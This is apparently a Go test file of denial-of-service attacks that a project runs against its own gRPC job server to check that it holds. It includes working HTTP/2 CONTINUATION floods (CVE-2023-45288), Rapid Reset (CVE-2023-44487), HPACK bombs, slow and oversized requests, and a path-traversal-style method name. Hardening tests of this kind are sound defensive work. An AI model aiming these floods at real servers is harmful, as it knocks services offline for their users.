package server

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"github.com/telerun/tele/client"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
)

// The attacks of TestDoorHolds. Each returns what it holds when it has done its worst.

// A raw is an HTTP/2 connection over TLS, as mallory, for what no client library would send.
type raw struct {
	net.Conn
	*http2.Framer
	out     *bufio.Writer
	fields  bytes.Buffer
	encoder *hpack.Encoder
	heard   chan struct{} // an answer to a ping
	closed  chan struct{}
}

// h2 opens one; what the server says is read and thrown away.
func (o *target) h2(settings ...http2.Setting) *raw {
	o.t.Helper()
	conn, err := tls.Dial("tcp", o.addr, o.tls)
	if err != nil {
		o.t.Fatal(err)
	}
	r := &raw{Conn: conn, out: bufio.NewWriter(conn)}
	r.Framer = http2.NewFramer(r.out, conn)
	r.encoder = hpack.NewEncoder(&r.fields)
	r.out.WriteString(http2.ClientPreface)
	r.WriteSettings(settings...)
	return r
}

// drain reads what the server says, until it closes the connection.
func (r *raw) drain() *raw {
	r.heard, r.closed = make(chan struct{}, 1), make(chan struct{})
	go func() {
		defer close(r.closed)
		for {
			frame, err := r.ReadFrame()
			if err != nil && !errors.As(err, new(http2.StreamError)) {
				return
			}
			if ping, ok := frame.(*http2.PingFrame); ok && ping.IsAck() {
				r.heard <- struct{}{}
			}
		}
	}()
	return r
}

// sync sends what is still here, and returns when the server has looked at all of it, or has closed
// the connection.
func (r *raw) sync() {
	r.WritePing(false, [8]byte{})
	r.out.Flush()
	select {
	case <-r.heard:
	case <-r.closed:
	case <-time.After(10 * time.Second):
	}
}

// call begins a call.
func (r *raw) call(stream uint32, method string, end bool, more ...hpack.HeaderField) error {
	r.fields.Reset()
	for _, f := range append([]hpack.HeaderField{{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"},
		{Name: ":path", Value: "/tele.v1.JobService/" + method}, {Name: ":authority", Value: "x"},
		{Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"}}, more...) {
		r.encoder.WriteField(f)
	}
	return r.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: r.fields.Bytes(),
		EndHeaders: true, EndStream: end})
}

// message begins a message of size bytes of which only data come now.
func message(size uint32, data []byte) []byte {
	return append(binary.BigEndian.AppendUint32([]byte{0}, size), data...)
}

func (o *target) tcp(n int) (conns []io.Closer) {
	for range n {
		conn, err := net.Dial("tcp", o.addr)
		if err != nil {
			o.t.Fatal(err)
		}
		conns = append(conns, conn)
	}
	return conns
}

func halfOpen(o *target) []io.Closer {
	conns := o.tcp(2000)
	if n := o.files(); n > maxStrangers+200 {
		o.t.Errorf("the server has %d descriptors open", n)
	}
	return conns
}

func slowHandshakes(o *target) []io.Closer {
	conns := o.tcp(500)
	for range 20 {
		for _, c := range conns {
			c.(net.Conn).Write([]byte{0x16})
		}
	}
	return conns
}

func noise(o *target) []io.Closer {
	conns := o.tcp(300)
	data := make([]byte, 64<<10)
	rand.Read(data)
	for _, c := range conns {
		c.(net.Conn).Write(data)
	}
	return conns
}

func noiseInside(o *target) (held []io.Closer) {
	data := make([]byte, 1<<20)
	rand.Read(data)
	for i := range 50 {
		conn, err := tls.Dial("tcp", o.addr, o.tls)
		if err != nil {
			o.t.Fatal(err)
		}
		if i%2 == 0 {
			conn.Write([]byte(http2.ClientPreface))
		}
		conn.Write(data)
		held = append(held, conn)
	}
	return held
}

// manyConnections opens twice as many as one client may have. Those too many hear why.
func manyConnections(o *target) (held []io.Closer) {
	refused := 0
	for range 200 {
		c, err := client.Dial(o.mallory)
		if err != nil {
			o.t.Fatal(err)
		}
		held = append(held, c)
		_, err = c.List(context.Background(), client.ListOptions{})
		if status.Code(err) == codes.ResourceExhausted && strings.Contains(err.Error(), "as many connections") {
			refused++
		} else if err != nil {
			o.t.Errorf("a connection was refused with %v", err)
		}
	}
	if refused < 90 || refused > 110 {
		o.t.Errorf("%d of 200 connections were refused", refused)
	}
	return held
}

// endlessHeaders is the CONTINUATION flood of CVE-2023-45288.
func endlessHeaders(o *target) (held []io.Closer) {
	for range 10 {
		r := o.h2().drain()
		r.encoder.WriteField(hpack.HeaderField{Name: "a", Value: strings.Repeat("b", 8000)})
		r.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: r.fields.Bytes()})
		for range 2000 {
			if r.WriteContinuation(1, false, r.fields.Bytes()) != nil {
				break
			}
		}
		held = append(held, r.Conn)
	}
	return held
}

// headerBomb fills the table of HPACK with one long field and names it again and again.
func headerBomb(o *target) (held []io.Closer) {
	for range 10 {
		r := o.h2().drain()
		long := hpack.HeaderField{Name: "bomb", Value: strings.Repeat("b", 4000)}
		var many []hpack.HeaderField
		for range 10000 {
			many = append(many, long)
		}
		for stream := range uint32(20) {
			if r.call(2*stream+1, "List", true, many...) != nil {
				break
			}
		}
		r.sync()
		held = append(held, r.Conn)
	}
	return held
}

func hugeFrames(o *target) (held []io.Closer) {
	for range 20 {
		r := o.h2().drain()
		r.call(1, "Start", false)
		r.out.Flush()
		r.Conn.Write([]byte{0xff, 0xff, 0xff, 0, 0, 0, 0, 0, 1}) // DATA, 16 MiB - 1
		r.Conn.Write(make([]byte, 1<<20))
		held = append(held, r.Conn)
	}
	return held
}

func floodUnread(o *target) (held []io.Closer) {
	var all sync.WaitGroup
	for range 10 {
		r := o.h2()
		held = append(held, r.Conn)
		all.Go(func() {
			r.SetWriteDeadline(time.Now().Add(2 * time.Second)) // nobody reads, so at some time nobody writes
			for i := range 100000 {
				if i%2 == 0 {
					r.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i)})
				}
				if r.WritePing(false, [8]byte{}) != nil {
					return
				}
			}
		})
	}
	all.Wait()
	return held
}

// rapidReset is CVE-2023-44487.
func rapidReset(o *target) (held []io.Closer) {
	var all sync.WaitGroup
	for range 4 {
		r := o.h2().drain()
		held = append(held, r.Conn)
		all.Go(func() {
			r.SetWriteDeadline(time.Now().Add(4 * time.Second))
			for i := range uint32(10000) {
				r.call(2*i+1, "Wait", false)
				if r.WriteRSTStream(2*i+1, http2.ErrCodeCancel) != nil {
					return
				}
			}
			r.sync()
		})
	}
	all.Wait()
	return held
}

func hugeMessages(o *target) (held []io.Closer) {
	r := o.h2().drain()
	for i := range uint32(1000) {
		r.call(2*i+1, "Start", false)
		r.WriteData(2*i+1, false, message(1<<32-1, nil))
	}
	r.sync()
	return append(held, r.Conn)
}

// unfinishedRequests begins as many large requests as it may, on as many connections as it may.
func unfinishedRequests(o *target) (held []io.Closer) {
	var all sync.WaitGroup
	for range 20 {
		r := o.h2().drain()
		held = append(held, r.Conn)
		all.Go(func() {
			r.SetWriteDeadline(time.Now().Add(4 * time.Second))
			for i := range uint32(500) {
				if r.call(2*i+1, "Start", false) != nil {
					return
				}
				r.WriteData(2*i+1, false, message(1<<20, make([]byte, 16000)))
				for range 3 {
					r.WriteData(2*i+1, false, make([]byte, 16000))
				}
			}
			r.sync()
		})
	}
	all.Wait()
	return held
}

// dribbledRequests sends them a byte at a time, each of which costs the server more than a byte.
func dribbledRequests(o *target) (held []io.Closer) {
	var all sync.WaitGroup
	for range 4 {
		r := o.h2().drain()
		held = append(held, r.Conn)
		all.Go(func() {
			r.SetWriteDeadline(time.Now().Add(4 * time.Second))
			for i := range uint32(20) {
				r.call(2*i+1, "Start", false)
				r.WriteData(2*i+1, false, message(1<<20, nil))
				for range 60000 {
					if r.WriteData(2*i+1, false, []byte{0}) != nil {
						return
					}
				}
			}
			r.sync()
		})
	}
	all.Wait()
	return held
}

// brokenMessages sends noise, lengths that do not fit, compression that is none, and methods that are
// not there, complete and with every method in turn.
func brokenMessages(o *target) (held []io.Closer) {
	methods := []string{"Start", "Get", "List", "Stop", "Wait", "StreamOutput", "Remove", "Prune", "Nothing", "", "/../../x"}
	r := o.h2().drain()
	r.SetWriteDeadline(time.Now().Add(20 * time.Second))
	for i := range uint32(3000) {
		data := make([]byte, i%300)
		rand.Read(data)
		var more []hpack.HeaderField
		frame := message(uint32(len(data)), data)
		switch i % 4 {
		case 1:
			frame[0] = 1 // compressed
			more = append(more, hpack.HeaderField{Name: "grpc-encoding", Value: "gzip"})
		case 2:
			frame[4]++ // longer than what comes
		case 3:
			more = append(more, hpack.HeaderField{Name: "grpc-timeout", Value: "99999999H"}, hpack.HeaderField{Name: "x-bin", Value: "%"})
		}
		r.call(2*i+1, methods[int(i)%len(methods)], false, more...)
		r.WriteData(2*i+1, true, frame)
	}
	r.sync()
	return append(held, r.Conn)
}

// strangersHandshakes makes the server sign, which is what a handshake costs it.
func strangersHandshakes(o *target) []io.Closer {
	config := &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}}
	var all sync.WaitGroup
	for range 8 {
		all.Go(func() {
			for range 60 {
				if conn, err := tls.Dial("tcp", o.addr, config); err == nil {
					conn.Read(make([]byte, 1)) // the refusal
					conn.Close()
				}
			}
		})
	}
	all.Wait()
	return nil
}

func churn(o *target) []io.Closer {
	var all sync.WaitGroup
	for range 8 {
		all.Go(func() {
			for range 40 {
				r := o.h2()
				r.call(1, "Wait", false)
				r.out.Flush()
				r.Conn.Close()
			}
		})
	}
	all.Wait()
	return nil
}

// unreadOutput follows a job 1,000 times and gives the server no window for what it would send.
func unreadOutput(o *target, id string) (held []io.Closer) {
	before := o.goroutines()
	for range 2 {
		held = append(held, o.askOutput(id, 500))
	}
	// Each has a goroutine in the server.
	for deadline := time.Now().Add(30 * time.Second); o.goroutines() < before+1000; time.Sleep(20 * time.Millisecond) {
		if time.Now().After(deadline) {
			o.t.Errorf("not all streams are open")
			break
		}
	}
	return held
}

// unreadEnds does the same with calls that are over for the server as soon as it has said everything,
// and with more of them than a client may have open.
func unreadEnds(o *target, id string) (held []io.Closer) {
	for range 4 {
		held = append(held, o.askOutput(id, 1900))
	}
	o.goroutines() // frees what can be
	return held
}

// askOutput asks for a job's output so many times, without a window for what comes.
func (o *target) askOutput(id string, times uint32) io.Closer {
	body := append([]byte{0x0a, byte(len(id))}, id...) // job_id
	r := o.h2(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}).drain()
	for i := range times {
		r.call(2*i+1, "StreamOutput", false)
		r.WriteData(2*i+1, true, message(uint32(len(body)), body))
	}
	r.sync()
	return r.Conn
}
